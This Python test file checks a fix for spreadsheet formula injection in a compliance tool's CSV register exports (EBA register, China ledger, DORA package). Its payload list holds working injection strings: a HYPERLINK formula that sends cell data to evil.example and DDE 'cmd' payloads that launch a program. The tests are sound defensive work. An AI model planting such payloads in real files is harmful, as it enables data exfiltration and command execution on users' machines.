"""Finding 5: spreadsheet formula injection in the register CSVs.

Before the fix, a provider named ``=HYPERLINK(...)`` (or ``@SUM``, ``+cmd|...``, a cell
starting with a tab) was written raw into the China ledger, the EBA register and the DORA
package; a spreadsheet opening the file evaluates it.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from dfgov.errors import InvalidInputError
from dfgov.outsourcing import OutsourcingCase
from dfgov.outsourcing.registers import (
    RegisterData,
    china_ledger,
    eba_register,
    export_dora_package,
)
from tests.outsourcing.registers.test_registers import ENTITY, FUNCTIONS, REF, cases

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "＝1+1"]


def is_formula(cell: str) -> bool:
    """What a spreadsheet evaluates (an independent statement of the OWASP rule)."""
    if not cell or cell[0] not in "=+-@\t\r＝＋－＠":
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _poisoned(name: str) -> list[OutsourcingCase]:
    out = []
    for c in cases():
        p = c.provider.model_copy(update={"legal_name": name})
        out.append(c.model_copy(update={"provider": p}))
    return out


def _cells(raw: bytes, encoding: str) -> list[str]:
    rows = csv.reader(io.StringIO(raw.decode(encoding), newline=""))
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_eba_register_and_china_ledger_neutralise(tmp_path: Path, payload: str) -> None:
    poisoned = _poisoned(payload)
    frame = eba_register(poisoned, functions=FUNCTIONS, path=tmp_path / "eba.csv")
    ledger = china_ledger(poisoned, path=tmp_path / "ledger.csv")
    for path, enc in ((tmp_path / "eba.csv", "utf-8"), (tmp_path / "ledger.csv", "utf-8-sig")):
        cells = _cells(path.read_bytes(), enc)
        assert "'" + payload in cells  # shown as text, value kept after the apostrophe
        assert not any(is_formula(c) for c in cells), path.name
    # the frames returned to Python keep the exact values
    assert payload in set(frame["54(e) provider name"]) and payload in set(ledger.iloc[:, 1])


def test_numbers_and_plain_text_are_left_alone() -> None:
    from dfgov.outsourcing.registers._csv import neutralise

    for value in ("-5", "+3.25", "-1e3", ".5", "ACME Ltd", "", "a=b"):
        assert neutralise(value) == value
    assert neutralise(-5) == -5


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_dora_package_refuses_formula_cells(tmp_path: Path, payload: str) -> None:
    data = RegisterData.from_cases(_poisoned(payload), FUNCTIONS)
    out = tmp_path / "roi.zip"
    with pytest.raises(InvalidInputError, match="formula"):
        export_dora_package(data, ENTITY, out, reference_date=REF)
    assert not out.exists()


def test_clean_dora_package_still_exports(tmp_path: Path) -> None:
    from dfgov import outsourcing  # noqa: F401

    data = RegisterData.from_cases(_poisoned("Provider AG"), FUNCTIONS,
                                   providers=[])
    try:
        out = export_dora_package(data, ENTITY, tmp_path / "roi.zip", reference_date=REF)
    except InvalidInputError as exc:  # the fixture's sub-contractor is unknown without it
        assert "formula" not in str(exc)
        return
    with zipfile.ZipFile(out) as zf:
        assert all(not is_formula(c) for n in zf.namelist() if n.endswith(".csv")
                   for c in _cells(zf.read(n), "utf-8"))
